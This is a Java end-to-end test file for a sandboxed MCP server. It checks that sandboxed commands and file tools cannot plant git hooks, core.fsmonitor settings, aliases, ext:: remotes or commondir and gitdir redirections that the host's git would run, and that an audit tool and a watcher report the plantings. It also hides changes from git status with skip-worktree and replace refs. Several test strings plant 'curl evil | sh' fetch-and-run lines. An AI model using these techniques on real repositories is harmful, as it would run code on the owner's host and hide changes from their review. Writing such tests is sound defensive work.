package dev.sandboxmcp.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.spec.McpSchema;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * The workspace must not become a way onto the host, from the attacker's side: the pair as
 * {@code make up} starts it (the override infra/compose/protect-git.sh writes for a workspace that
 * already holds a repository), a command and the file tools trying to plant what git, direnv and
 * VS Code on the host run by themselves, the host's own git showing that the threat is real, and
 * the audit reporting what the mounts cannot prevent.
 */
@RequiresDocker
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class GitProtectionTest {

    ComposeDeployment deployment;
    McpSyncClient client;
    Path existing;
    byte[] configBefore;
    List<String> hooksBefore;

    /** The audit's state (its baseline and the watcher's log), outside the workspace. */
    Path state;
    /** The workspace owner's HOME for the host's git: a directory of its own, out of the sandbox's reach. */
    Path ownerHome;

    @BeforeAll
    void start() throws Exception {
        deployment = ComposeDeployment.start("git", workspace -> {
            Path repo = Files.createDirectories(workspace.resolve("projects/existing"));
            hostGit(repo, "init", "-q");
            Files.writeString(repo.resolve("README.md"), "hello\n");
            hostGit(repo, "add", "README.md");
            hostGit(repo, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "first");
            Files.deleteIfExists(repo.resolve(".git/hooks/pre-commit.sample")); // as in a repository whose hooks dir is sparse
            // Every indirection git follows, present before make up: a worktree (its .git file, its
            // gitdir and commondir), a submodule (modules/lib), an include and a core.hooksPath.
            hostGit(repo, "worktree", "add", "-q", "../existing-topic");
            Path lib = Files.createDirectories(workspace.resolve("projects/lib"));
            hostGit(lib, "init", "-q");
            hostGit(lib, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "lib");
            hostGit(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", "../lib", "lib");
            hostGit(repo, "config", "include.path", "../team.gitconfig");
            Files.writeString(repo.resolve("team.gitconfig"), "[diff]\n\trenames = true\n");
            hostGit(repo, "config", "core.hooksPath", ".husky");
            Files.createDirectories(repo.resolve(".husky"));
        });
        client = deployment.streamableClient();
        existing = deployment.workspace.resolve("projects/existing");
        configBefore = Files.readAllBytes(existing.resolve(".git/config"));
        hooksBefore = listing(existing.resolve(".git/hooks"));
        state = Files.createTempDirectory("sandbox-mcp-e2e-audit-state-");
        ownerHome = Files.createTempDirectory("sandbox-mcp-e2e-owner-home-");
        Files.setAttribute(ownerHome, "unix:uid", deployment.uid);
        Files.setAttribute(ownerHome, "unix:gid", deployment.gid);
        // What the user accepts at make up: the include and the hooksPath they set themselves.
        Commands.Result accepted = audit("--accept");
        assertThat(accepted.exitCode()).as(accepted.output()).isZero();
    }

    @AfterAll
    void stop() throws Exception {
        if (client != null) {
            client.close();
        }
        if (deployment != null) {
            deployment.close();
        }
        if (ownerHome != null) {
            Commands.run(List.of("rm", "-rf", ownerHome.toString(), state.toString()), 60);
        }
    }

    @Test
    @Order(3)
    void aCommandCannotPlantInAnExistingRepositoryWhileCommitsWork() throws Exception {
        String marker = deployment.workspace.resolve("planted-command-ran").toString();
        Map<String, Object> config = run("cd projects/existing && git config core.fsmonitor 'touch " + marker + "; true'");
        assertThat(config.get("exit_code")).isNotEqualTo(0);
        // The absolute path: the commondir make up leaves makes git name the common directory so.
        assertThat((String) config.get("stderr")).contains("could not write config file /workspace/projects/existing/.git/config")
                .containsAnyOf("Read-only file system", "Device or resource busy");
        assertThat(run("cd projects/existing && git config core.hooksPath /tmp").get("exit_code")).isNotEqualTo(0);
        assertThat(run("cd projects/existing && git config alias.st '!touch " + marker + "'").get("exit_code")).isNotEqualTo(0);
        assertThat(run("cd projects/existing && git remote add evil /tmp/x").get("exit_code")).isNotEqualTo(0);
        Map<String, Object> append = run("cd projects/existing && printf '[core]\\n\\tfsmonitor = touch " + marker
                + "\\n' >> .git/config");
        assertThat((String) append.get("stderr")).contains("Read-only file system");
        Map<String, Object> hook = run("cd projects/existing && printf '#!/bin/sh\\ntouch " + marker
                + "\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
        assertThat(hook.get("exit_code")).isNotEqualTo(0);
        assertThat((String) hook.get("stderr")).contains("Read-only file system");
        // Nor by moving the repository, or its .git, aside and putting a planted copy in its place.
        assertThat(run("cd projects/existing && mv .git .git-aside").get("exit_code")).isNotEqualTo(0);
        assertThat(run("mv projects/existing projects/aside").get("exit_code")).isNotEqualTo(0);
        assertThat(run("mv projects projects-aside").get("exit_code")).isNotEqualTo(0);

        assertThat(Files.readAllBytes(existing.resolve(".git/config"))).isEqualTo(configBefore);
        assertThat(listing(existing.resolve(".git/hooks"))).isEqualTo(hooksBefore);
        assertThat(existing.resolve(".git/hooks/pre-commit")).doesNotExist();

        Map<String, Object> commit = run("cd projects/existing && echo change >> README.md && git add README.md && "
                + "git -c user.name=t -c user.email=t@example.com commit -q -m second && git checkout -q -b topic && "
                + "git diff --stat HEAD~1 && git log --oneline | wc -l");
        assertThat(commit.get("exit_code")).as(commit.toString()).isEqualTo(0);
        assertThat(((String) commit.get("stdout")).strip()).endsWith("2");
        assertThat(hostGit(existing, "log", "--format=%s", "topic")).isEqualTo("second\nfirst\n");
        assertThat(Path.of(marker)).doesNotExist();
    }

    /**
     * Each indirection git follows to its config and hooks, planted as the attacker would (issue
     * 21: a commondir of " ../p", a leading space git keeps, naming a directory with a planted
     * config and links back to the real objects and refs): every write fails, and the host's git,
     * run as the workspace's owner, still reads the real config and runs nothing.
     */
    @Test
    @Order(4)
    void noIndirectionCanBePlantedInAProtectedRepository() throws Exception {
        String marker = deployment.workspace.resolve("indirection-ran").toString();
        String config = "[core]\\n\\tfsmonitor = touch " + marker + "; true\\n";
        Map<String, Object> decoy = run("cd projects/existing/.git && mkdir -p ' ../p/hooks' && printf '" + config
                + "' > ' ../p/config' && ln -s ../../objects ' ../p/objects' && ln -s ../../refs ' ../p/refs'");
        assertThat(decoy.get("exit_code")).as("a planted directory inside .git is allowed; nothing may point at it: " + decoy)
                .isEqualTo(0);
        for (String planting : List.of(
                "printf ' ../p' > .git/commondir",
                "rm -f .git/commondir",
                "mv .git/commondir .git/commondir.aside",
                "printf '" + config + "' > .git/config.worktree",
                "printf 'gitdir: .git/ ../p\\n' > ../existing-topic/.git",
                "printf ' ../p' > .git/worktrees/existing-topic/commondir",
                "printf '/tmp\\n' > .git/worktrees/existing-topic/gitdir",
                "printf '" + config + "' > .git/worktrees/existing-topic/config.worktree",
                "mkdir .git/worktrees/planted",
                "mkdir .git/modules/planted",
                "printf '" + config + "' > .git/modules/lib/config",
                "printf ' ../../ ../p' > .git/modules/lib/commondir",
                "printf 'gitdir: ../.git/ ../p\\n' > lib/.git",
                "printf '" + config + "' >> team.gitconfig",
                "printf '#!/bin/sh\\ntouch " + marker + "\\n' > .husky/pre-commit && chmod +x .husky/pre-commit",
                "git worktree add -q ../planted-worktree")) {
            Map<String, Object> result = run("cd projects/existing && " + planting);
            assertThat(result.get("exit_code")).as(planting + " must fail: " + result).isNotEqualTo(0);
        }
        Path project = existing.toRealPath();
        for (Path dir : List.of(existing, deployment.workspace.resolve("projects/existing-topic"), existing.resolve("lib"))) {
            // The host's git as the workspace's owner: as root it would refuse a repository owned by
            // another user ("dubious ownership") and so hide the attack.
            assertThat(ownerGit(dir, "status", "--short").exitCode()).as(dir.toString()).isZero();
            assertThat(ownerGit(dir, "config", "--get", "core.fsmonitor").exitCode()).as(dir.toString()).isEqualTo(1);
        }
        assertThat(ownerGit(existing, "rev-parse", "--git-common-dir").output().strip()).isEqualTo(project + "/.git");
        assertThat(ownerGit(existing.resolve("lib"), "rev-parse", "--git-common-dir").output().strip())
                .isEqualTo(project + "/.git/modules/lib");
        assertThat(ownerGit(existing, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q",
                "--allow-empty", "-m", "host").exitCode()).isZero();
        assertThat(Path.of(marker)).doesNotExist();

        Map<String, Object> work = run("cd projects/existing && echo more >> README.md && git add README.md && git stash -q && "
                + "git stash pop -q && git -c user.name=t -c user.email=t@example.com commit -q -am third && "
                + "git branch side && git diff --stat HEAD~1");
        assertThat(work.get("exit_code")).as(work.toString()).isEqualTo(0);
        assertThat(Path.of(marker)).doesNotExist();
    }

    /**
     * The host user reviews a command's work with git status and git diff before running it. A
     * command in a protected repository cannot write info/ (its exclude hides a new file); what it
     * can write, a flag in the index and a replace ref (a forged tree of HEAD hides a staged
     * change), hides the change from the host's git, and the audit names both.
     */
    @Test
    @Order(5)
    void whatHidesAChangeFromYourReviewIsReadOnlyOrReported() throws Exception {
        Map<String, Object> exclude = run("cd projects/existing && echo planted.sh >> .git/info/exclude");
        assertThat(exclude.get("exit_code")).as(exclude.toString()).isNotEqualTo(0);
        assertThat((String) exclude.get("stderr")).contains("Read-only file system");

        String before = ownerGit(existing, "status", "--porcelain").output(); // what earlier tests left untracked
        Map<String, Object> hide = run("cd projects/existing && echo 'curl evil | sh' >> README.md && "
                + "git update-index --skip-worktree README.md && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && "
                + "git add Makefile && forged=$(git write-tree) && git replace \"$(git rev-parse 'HEAD^{tree}')\" \"$forged\"");
        assertThat(hide.get("exit_code")).as(hide.toString()).isEqualTo(0);
        Commands.Result status = ownerGit(existing, "status", "--porcelain");
        assertThat(status.exitCode()).as(status.output()).isZero();
        assertThat(status.output()).as("the host's git status shows neither change").isEqualTo(before);

        Commands.Result audit = audit();
        assertThat(audit.exitCode()).as(audit.output()).isEqualTo(1);
        String tree = ownerGit(existing, "-c", "core.useReplaceRefs=false", "rev-parse", "HEAD^{tree}").output().strip();
        assertThat(audit.output()).contains(
                "new    projects/existing/.git/index: skip-worktree (git status and git diff do not show changes to these "
                        + "files): 1 file: README.md; sha256 ",
                "new    projects/existing/.git/refs/replace/" + tree + ": replace ref (");

        Map<String, Object> undo = run("cd projects/existing && git replace -d " + tree + " && git update-index "
                + "--no-skip-worktree README.md && git reset -q && git checkout -q -- README.md && rm Makefile");
        assertThat(undo.get("exit_code")).as(undo.toString()).isEqualTo(0);
        assertThat(ownerGit(existing, "status", "--porcelain").output()).isEqualTo(before);
    }

    @Test
    void theFileToolsRefuseTheSamePaths() throws Exception {
        run("mkdir -p projects/existing/.vscode projects/existing/x");
        for (String path : List.of("projects/existing/.git/config", "projects/existing/.git/hooks/pre-commit",
                "projects/existing/.envrc", "projects/existing/.vscode/tasks.json", "projects/existing/x/../.git/config",
                "projects/existing/x/.git")) {
            McpSchema.CallToolResult write = client.callTool(new McpSchema.CallToolRequest("write_file",
                    Map.of("path", path, "content", "[core]\n\tfsmonitor = id\n")));
            assertThat(write.isError()).as(path).isTrue();
            assertThat(text(write)).as(path).startsWith("refused: ").contains("ask them to make it themselves");
        }
        McpSchema.CallToolResult edit = client.callTool(new McpSchema.CallToolRequest("edit_file", Map.of("path",
                "projects/existing/.git/config", "old_text", "[core]", "new_text", "[core]\n\tfsmonitor = id")));
        assertThat(edit.isError()).isTrue();
        assertThat(text(edit)).startsWith("refused: ");
        assertThat(Files.readAllBytes(existing.resolve(".git/config"))).isEqualTo(configBefore);
        assertThat(existing.resolve(".envrc")).doesNotExist();
        assertThat(existing.resolve(".vscode/tasks.json")).doesNotExist();
        assertThat(existing.resolve("x/.git")).doesNotExist();
    }

    @Test
    @Order(1)
    void theThreatIsRealWhereNothingProtectsAndTheAuditReportsIt() throws Exception {
        Path marker = deployment.workspace.resolve("host-ran-fsmonitor");
        // A repository created after make up, and one nested in the protected repository: not
        // mounted, so the plantings succeed inside the sandbox.
        String plantings = "git config core.fsmonitor 'touch " + marker + "; true' && git config core.hooksPath .hooks && "
                + "git config alias.l '!touch " + marker + "' && printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit && "
                + "chmod +x .git/hooks/pre-commit";
        Map<String, Object> plant = run("git init -q later && (cd later && " + plantings + ") && "
                + "mkdir -p projects/existing/vendor/nested && cd projects/existing/vendor/nested && git init -q && "
                + plantings);
        assertThat(plant.get("exit_code")).as(plant.toString()).isEqualTo(0);

        // The host's own git, in the planted repository, runs the command: the threat is real.
        assertThat(ownerGit(deployment.workspace.resolve("later"), "status", "--short").exitCode()).isZero();
        assertThat(marker).exists();
        Files.delete(marker);
        // The protected repository never got the setting, so the host's git there runs nothing.
        assertThat(ownerGit(existing, "config", "--get", "core.fsmonitor").exitCode()).isEqualTo(1);
        assertThat(ownerGit(existing, "status", "--short").exitCode()).isZero();
        assertThat(marker).doesNotExist();

        Commands.Result first = audit();
        assertThat(first.exitCode()).as(first.output()).isEqualTo(1);
        assertThat(first.output()).contains(
                "new    later/.git/config: core.fsmonitor: touch " + marker + "; true",
                "new    later/.git/config: core.hookspath: .hooks",
                "new    later/.git/config: alias.l: !touch " + marker,
                "new    later/.git/hooks/pre-commit: hook: executable, sha256 ",
                "new    projects/existing/vendor/nested/.git/config: core.fsmonitor: touch " + marker + "; true",
                "new    projects/existing/vendor/nested/.git/config: core.hookspath: .hooks",
                "new    projects/existing/vendor/nested/.git/config: alias.l: !touch " + marker,
                "new    projects/existing/vendor/nested/.git/hooks/pre-commit: hook: executable, sha256 ");
        // A core.hooksPath that does not exist yet is reported too: whoever creates it decides what runs.
        assertThat(first.output()).contains(
                "new    later/.git/config: core.hookspath target: later/.hooks (does not exist",
                "new    projects/existing/vendor/nested/.git/config: core.hookspath target: "
                        + "projects/existing/vendor/nested/.hooks (does not exist");
        assertThat(first.output()).contains(" 10 new since ");

        Commands.Result accept = audit("--accept");
        assertThat(accept.exitCode()).as(accept.output()).isZero();
        Commands.Result quiet = audit();
        assertThat(quiet.exitCode()).as(quiet.output()).isZero();
        assertThat(quiet.output()).contains(" 0 new since ");

        assertThat(run("cd later && git config core.fsmonitor 'curl evil | sh'").get("exit_code")).isEqualTo(0);
        Commands.Result changed = audit();
        assertThat(changed.exitCode()).as(changed.output()).isEqualTo(1);
        assertThat(changed.output()).contains("1 new").contains("new    later/.git/config: core.fsmonitor: curl evil | sh");

        // With the override protect-git.sh wrote (make audit gives it make up's): what it protected
        // is not named, what was made since is (a config there can be swapped in only while git reads it).
        Commands.Result unprotected = audit("--protected", deployment.gitOverride().toString());
        assertThat(unprotected.exitCode()).as(unprotected.output()).isEqualTo(1);
        assertThat(unprotected.output()).contains("new    later/.git: not protected by make up",
                "new    projects/existing/vendor/nested/.git: not protected by make up")
                .doesNotContain("projects/existing/.git: not protected")
                .doesNotContain("projects/existing/.git/modules/lib: not protected")
                .doesNotContain("projects/lib/.git: not protected");
    }

    /**
     * Each indirection planted in repositories made after start, where no mount protects: the
     * audit exits 1 and names every one, and the watcher, started before, reports every one
     * within 10 seconds.
     */
    @Test
    @Order(2)
    void everyIndirectionInARepositoryMadeAfterStartIsReportedByTheAuditAndTheWatcher() throws Exception {
        Path marker = deployment.workspace.resolve("after-ran");
        String config = "[core]\\n\\tfsmonitor = touch " + marker + "; true\\n";
        String fsmonitor = "core.fsmonitor: touch " + marker + "; true";
        String written = "core.fsmonitor: touch " + marker; // printf'd into a file: "; true" is a comment there
        // A git directory of links back to the real objects and refs, with a planted config.
        String decoy = "mkdir -p %1$s/hooks && printf '" + config + "' > %1$s/config && ln -s %2$s/objects %1$s/objects && "
                + "ln -s %2$s/refs %1$s/refs";
        String ws = deployment.workspace.toRealPath().toString();
        Map<String, String> plantings = new LinkedHashMap<>();
        plantings.put("git init -q after/commondir && cd after/commondir/.git && " + decoy.formatted("' ../p'", "../..")
                + " && printf ' ../p' > commondir",
                "after/commondir/.git/commondir: commondir in a main .git directory: after/commondir/.git/ ../p (git reads");
        plantings.put("git init -q --bare 'after/commondir/.git/ store ' && git -C 'after/commondir/.git/ store ' config "
                + "core.fsmonitor 'touch " + marker + "; true' && mkdir after/gitfile && "
                + "printf 'gitdir: ../commondir/.git/ store \\n' > after/gitfile/.git",
                "after/commondir/.git/ store /config: " + fsmonitor);
        plantings.put("git init -q after/wtconfig && cd after/wtconfig && git config extensions.worktreeConfig true && "
                + "git config --worktree core.fsmonitor 'touch " + marker + "; true'",
                "after/wtconfig/.git/config.worktree: " + fsmonitor);
        plantings.put("git init -q after/modules && git init -q --bare after/modules/.git/modules/planted && "
                + "git -C after/modules/.git/modules/planted config core.fsmonitor 'touch " + marker + "; true'",
                "after/modules/.git/modules/planted/config: " + fsmonitor);
        plantings.put("git init -q after/worktrees && cd after/worktrees/.git && mkdir -p worktrees/w && "
                + decoy.formatted("' evil'", "..") + " && printf 'ref: refs/heads/main\\n' > worktrees/w/HEAD && "
                + "printf '../../ evil\\n' > worktrees/w/commondir",
                "after/worktrees/.git/worktrees/w/commondir: commondir: after/worktrees/.git/ evil (git reads");
        plantings.put("git init -q after/include && cd after/include && git config include.path ../planted.inc && "
                + "printf '" + config + "' > planted.inc", "after/include/planted.inc: " + written);
        plantings.put("git init -q after/hookspath && cd after/hookspath && git config core.hooksPath .hooks && mkdir .hooks && "
                + "printf '#!/bin/sh\\ntouch " + marker + "\\n' > .hooks/pre-commit && chmod +x .hooks/pre-commit",
                "after/hookspath/.hooks/pre-commit: hook (core.hooksPath): executable, sha256 ");
        plantings.put("git init -q after/dangling && printf 'nowhere\\n' > after/dangling/.git/commondir",
                "after/dangling/.git/commondir: commondir: " + ws + "/after/dangling/.git/nowhere (does not resolve");
        plantings.put("mkdir -p after/gone && printf 'gitdir: ../nothing-here\\n' > after/gone/.git",
                "after/gone/.git: gitdir: " + ws + "/after/nothing-here (does not resolve");
        plantings.put("git init -q after/ext && cd after/ext && git config protocol.allow always && "
                + "git remote add origin 'ext::sh -c touch% " + marker + "'",
                "after/ext/.git/config: remote.origin.url: ext::sh -c touch% " + marker);
        plantings.put("git init -q after/hook && cd after/hook && git config hook.planted.event pre-commit && "
                + "git config hook.planted.command 'touch " + marker + "'",
                "after/hook/.git/config: hook.planted.command: touch " + marker);

        Path watchLog = state.resolve("watch.out");
        Process watcher = new ProcessBuilder(auditCommand("--watch", "--interval", "2")).redirectErrorStream(true)
                .redirectOutput(watchLog.toFile()).start();
        watcher.getOutputStream().close();
        try {
            long wait = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
            while (!Files.readString(watchLog).contains("watching ") && System.nanoTime() < wait) {
                TimeUnit.MILLISECONDS.sleep(100);
            }
            TimeUnit.SECONDS.sleep(3); // its first round, of what is already known, is over
            Map<String, Instant> plantedAt = new LinkedHashMap<>();
            for (Map.Entry<String, String> planting : plantings.entrySet()) {
                Map<String, Object> result = run(planting.getKey());
                assertThat(result.get("exit_code")).as(planting.getKey() + ": " + result).isEqualTo(0);
                plantedAt.put(planting.getValue(), Instant.now());
            }
            long planted = System.nanoTime();
            List<String> missing = new ArrayList<>(plantings.values());
            while (!missing.isEmpty() && System.nanoTime() - planted < TimeUnit.SECONDS.toNanos(10)) {
                String seen = Files.readString(watchLog);
                missing.removeIf(seen::contains);
                TimeUnit.MILLISECONDS.sleep(100);
            }
            assertThat(missing).as("not reported by the watcher within 10 s:\n" + Files.readString(watchLog)).isEmpty();
            // Each within 10 s of its own planting, by the time the watcher stamped on its line.
            long slowest = 0;
            for (Map.Entry<String, Instant> line : plantedAt.entrySet()) {
                String reported = Files.readAllLines(watchLog).stream().filter(l -> l.contains(line.getKey())).findFirst()
                        .orElseThrow();
                long millis = Duration.between(line.getValue(), Instant.parse(reported.substring(0, reported.indexOf(' '))))
                        .toMillis();
                assertThat(millis).as(line.getKey()).isLessThan(10_000);
                slowest = Math.max(slowest, millis);
            }
            System.out.println("the watcher reported each of " + plantings.size() + " plantings within " + slowest
                    + " ms of it");
        } finally {
            watcher.destroy();
            watcher.waitFor(10, TimeUnit.SECONDS);
        }

        // The first planting really runs with the host's git, leading space and all.
        assertThat(ownerGit(deployment.workspace.resolve("after/commondir"), "status", "--short").exitCode()).isZero();
        assertThat(marker).exists();
        Files.delete(marker);

        Commands.Result audit = audit();
        assertThat(audit.exitCode()).as(audit.output()).isEqualTo(1);
        for (String line : plantings.values()) {
            assertThat(audit.output()).as(audit.output()).contains("new    " + line);
        }
        assertThat(audit.output()).contains("new    after/ext/.git/config: protocol.allow: always",
                "new    after/include/.git/config: include.path: ../planted.inc",
                "new    after/worktrees/.git/ evil/config: " + written,
                "new    after/commondir/.git/ ../p/config: " + written);
    }

    Map<String, Object> run(String command) {
        return Mcp.run(client, command, 60);
    }

    Commands.Result audit(String... flags) throws Exception {
        return Commands.run(auditCommand(flags), Map.of("XDG_STATE_HOME", state.toString()), Repo.root(), 120);
    }

    List<String> auditCommand(String... flags) {
        List<String> command = new ArrayList<>(List.of("env", "XDG_STATE_HOME=" + state, Path.of(System.getProperty("java.home"),
                "bin", "java").toString(), "--enable-native-access=ALL-UNNAMED", "-jar",
                Repo.path("app/target/sandbox-mcp.jar").toString(), "audit"));
        command.addAll(List.of(flags));
        command.add(deployment.workspace.toString());
        return command;
    }

    static String text(McpSchema.CallToolResult result) {
        return ((McpSchema.TextContent) result.content().getFirst()).text();
    }

    static List<String> listing(Path dir) throws Exception {
        try (Stream<Path> entries = Files.list(dir)) {
            return entries.map(p -> p.getFileName().toString()).sorted().toList();
        }
    }

    /** The host's git, as the user would run it (the files belong to the sandbox's user: trusted here explicitly). */
    static String hostGit(Path dir, String... args) throws Exception {
        Commands.Result result = hostGitResult(dir, args);
        assertThat(result.exitCode()).as("git " + String.join(" ", args) + ":\n" + result.output()).isZero();
        return result.output();
    }

    /**
     * The host's git as the workspace's owner would run it: that user's uid (through setpriv when
     * the test runs as root), a HOME of its own, no safe.directory. Run as root, git refuses a
     * repository another user owns and so would never run what is planted: that would hide the attack.
     */
    Commands.Result ownerGit(Path dir, String... args) throws Exception {
        List<String> command = new ArrayList<>();
        if (Repo.hostUid() == 0) {
            command.addAll(List.of("setpriv", "--reuid=" + deployment.uid, "--regid=" + deployment.gid, "--clear-groups"));
        } else {
            assertThat(Repo.hostUid()).as("the test runs as the workspace's owner or as root").isEqualTo(deployment.uid);
        }
        command.addAll(List.of("env", "-i", "HOME=" + ownerHome, "PATH=/usr/local/bin:/usr/bin:/bin", "git"));
        command.addAll(List.of(args));
        return Commands.run(command, Map.of(), dir, 60);
    }

    static int hostGitExit(Path dir, String... args) throws Exception {
        return hostGitResult(dir, args).exitCode();
    }

    private static Commands.Result hostGitResult(Path dir, String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("git", "-c", "safe.directory=*", "-c", "init.defaultBranch=main"));
        command.addAll(List.of(args));
        return Commands.run(command, Map.of(), dir, 60);
    }
}
